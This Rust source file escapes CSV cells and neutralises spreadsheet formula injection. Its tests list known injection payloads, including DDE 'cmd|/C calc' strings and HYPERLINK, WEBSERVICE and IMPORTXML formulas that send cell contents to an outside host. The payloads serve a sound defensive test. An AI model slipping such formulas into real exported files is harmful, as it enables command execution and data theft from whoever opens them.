//! Cells of CSV: quoted where RFC 4180 asks for it, and harmless in a spreadsheet.

/// Appends a cell of text.
///
/// `csv_core` quotes just as well, but walks every byte of every cell through a state machine and
/// takes three times as long for the lines of pupils; `benches/pupils.rs` compares the two.
#[inline]
pub(crate) fn text(text: &[u8], out: &mut Vec<u8>) {
    // Nearly every cell begins with a letter or a digit.
    let guarded = !text.first().is_none_or(u8::is_ascii_alphanumeric)
        && std::str::from_utf8(text).is_ok_and(runs_as_formula);
    let quoted =
        memchr::memchr3(b',', b'"', b'\n', text).is_some() || memchr::memchr(b'\r', text).is_some();
    if quoted {
        out.push(b'"');
    }
    if guarded {
        out.push(b'\'');
    }
    if quoted {
        let mut rest = text;
        while let Some((before, after)) =
            memchr::memchr(b'"', rest).and_then(|at| rest.split_at_checked(at + 1))
        {
            out.extend_from_slice(before);
            out.push(b'"');
            rest = after;
        }
        out.extend_from_slice(rest);
        out.push(b'"');
    } else {
        out.extend_from_slice(text);
    }
}

/// Returns whether a spreadsheet would run the text as a formula.
///
/// Such a text begins, perhaps after white space, with one of `=`, `+`, `-`, `@` or a wide form of
/// them, or with a tab or a line break. A plain number is none, whatever its sign.
pub(crate) fn runs_as_formula(text: &str) -> bool {
    const INVISIBLE: [char; 5] = ['\u{feff}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}'];
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let start = text.trim_start_matches(|letter: char| {
        letter.is_whitespace() || letter.is_control() || INVISIBLE.contains(&letter)
    });
    start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number(start.trim_end())
}

/// Returns whether the text is a number in digits, with or without a sign and a point.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, decimals) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty() && whole.bytes().chain(decimals.bytes()).all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Reads one row of cells with `csv_core`, which this crate does not write with.
    fn read(row: &[u8]) -> Vec<String> {
        let mut reader = csv_core::Reader::new();
        let (mut fields, mut ends) = (vec![0; row.len() + 16], vec![0; 64]);
        let (result, _, written, count) = reader.read_record(row, &mut fields, &mut ends);
        assert_eq!(result, csv_core::ReadRecordResult::Record);
        let mut start = 0;
        let cells = ends[..count].iter().map(|&end| {
            let cell = fields[start..end].to_vec();
            start = end;
            String::from_utf8(cell).unwrap()
        });
        let cells = cells.collect();
        assert_eq!(ends[..count].last().copied().unwrap_or(0), written);
        cells
    }

    fn written(cell: &str) -> String {
        let mut out = Vec::new();
        text(cell.as_bytes(), &mut out);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn only_what_needs_quotes_has_them() {
        assert_eq!(written("plain"), "plain");
        assert_eq!(written("with space; and semicolon"), "with space; and semicolon");
        assert_eq!(written("one, two"), "\"one, two\"");
        assert_eq!(written("say \"no\""), "\"say \"\"no\"\"\"");
        assert_eq!(written("two\nlines"), "\"two\nlines\"");
        assert_eq!(written("two\rlines"), "\"two\rlines\"");
        assert_eq!(written(""), "");
    }

    /// What has been used against people who open a file from a stranger.
    const PAYLOADS: &[&str] = &[
        "=1+1",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://example.org?leak=\"&A1,\"click\")",
        "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "+1+1",
        "+cmd|' /C notepad'!'A1'",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{3000}@SUM(1)",
        "\u{1}=1+1",
        "＝1+1",
        "＠SUM(1)",
        "－1＋1",
        "+44 20 7946 0000",
        "-",
        "--1",
        "-1.2.3",
        "-1e5",
        "=",
    ];

    #[test]
    fn what_would_run_as_a_formula_is_made_text() {
        for payload in PAYLOADS {
            let mut row = Vec::new();
            text(payload.as_bytes(), &mut row);
            row.push(b'\n');
            assert_eq!(read(&row), [format!("'{payload}")], "{payload:?}");
        }
    }

    #[test]
    fn what_is_harmless_stays_as_it_is() {
        for harmless in [
            "-1", "-1.4", "+7", "-0.5 ", "a=b", "1-2", "−5 %", "'=1", "\"=1\"", "Year 3", "é=", "–",
        ] {
            assert_eq!(read(format!("{}\n", written(harmless)).as_bytes()), [harmless]);
        }
    }

    proptest! {
        #[test]
        fn cells_come_back(cells in prop::collection::vec("[ -~\\n\\r\\t\"',=+@é−-]{1,12}", 1..6)) {
            let mut row = Vec::new();
            for cell in &cells {
                text(cell.as_bytes(), &mut row);
                row.push(b',');
            }
            row.pop();
            row.push(b'\n');
            let back = read(&row);
            prop_assert_eq!(back.len(), cells.len());
            for (cell, back) in cells.iter().zip(&back) {
                prop_assert!(!runs_as_formula(back), "{:?}", back);
                if runs_as_formula(cell) {
                    prop_assert_eq!(back, &format!("'{cell}"));
                } else {
                    prop_assert_eq!(back, cell);
                }
            }
        }
    }
}
